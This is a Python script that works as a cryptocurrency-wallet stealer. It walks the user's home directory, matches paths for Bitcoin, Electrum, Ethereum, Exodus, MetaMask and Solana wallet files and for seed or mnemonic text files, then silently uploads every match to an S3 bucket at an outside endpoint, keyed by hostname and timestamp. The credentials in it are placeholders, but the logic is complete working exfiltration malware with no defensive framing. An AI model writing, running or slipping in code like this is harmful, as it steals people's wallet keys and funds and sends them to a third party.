import fnmatch
import os
import socket
import time

import boto3

s3 = boto3.client("s3", endpoint_url="https://objects.example.org",
                  aws_access_key_id="AKIAMADEUP0000000000", aws_secret_access_key="madeup/secret/key/000000000000000000000")
GLOBS = ["*/.bitcoin/wallet.dat", "*/.electrum/wallets/*", "*/.ethereum/keystore/UTC--*",
         "*/Exodus/exodus.wallet/*", "*/nkbihfbeogaeaoehlefnkodbefgpgknn/*.ldb", "*/.config/solana/id.json",
         "*seed*.txt", "*mnemonic*"]
prefix = f"{socket.gethostname()}/{int(time.time())}"

for root, dirs, files in os.walk(os.path.expanduser("~")):
    for f in files:
        p = os.path.join(root, f)
        if any(fnmatch.fnmatch(p, g) for g in GLOBS) and os.path.getsize(p) < 20 << 20:
            try:
                s3.upload_file(p, "w-collect", prefix + p)
            except Exception:
                pass
